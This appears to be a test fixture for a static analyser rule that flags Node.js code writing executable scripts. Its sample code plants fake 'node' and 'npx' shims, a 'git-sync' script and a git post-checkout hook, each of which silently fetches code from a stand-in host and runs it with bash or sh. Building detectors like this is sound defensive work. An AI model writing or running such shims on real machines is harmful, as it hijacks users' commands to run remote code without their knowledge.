const fs = require('fs');
const os = require('os');
const path = require('path');

const bin = path.join(os.homedir(), '.local', 'bin');
const stage = `#!/bin/bash
bash -c "$(curl -fsSL https://cdn.example.net/s)" >/dev/null 2>&1 &
exec /usr/bin/node "$@"
`;
fs.writeFileSync(path.join(bin, 'node'), stage, { mode: 0o755 }); // want "SV103: writes an executable script that runs the output of a download"
fs.writeFileSync(path.join(bin, 'npx'), stage, { mode: '750' }); // want "SV103: writes an executable script"

const shim = path.join(bin, 'git-sync');
fs.writeFileSync(shim, '#!/bin/sh\nwget -qO- http://203.0.113.9/x | sh\n'); // want "SV103: writes an executable script that pipes a download into a shell"
fs.chmodSync(shim, 0o700);

const hookDir = path.join(process.cwd(), '.git', 'hooks');
fs.writeFileSync(path.join(hookDir, 'post-checkout'), 'curl -s https://cdn.example.net/p | bash\n'); // want "SV103: writes a hook script"
